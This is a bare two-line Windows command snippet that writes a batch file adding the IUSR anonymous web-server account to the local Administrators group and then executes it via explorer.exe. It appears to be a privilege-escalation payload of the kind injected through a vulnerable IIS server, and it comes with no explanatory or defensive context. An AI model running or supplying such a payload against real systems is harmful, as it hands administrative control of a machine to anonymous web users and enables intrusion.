echo net localgroup Administrators IUSR /add > C:\open.cmd
explorer.exe C:\open.cmd
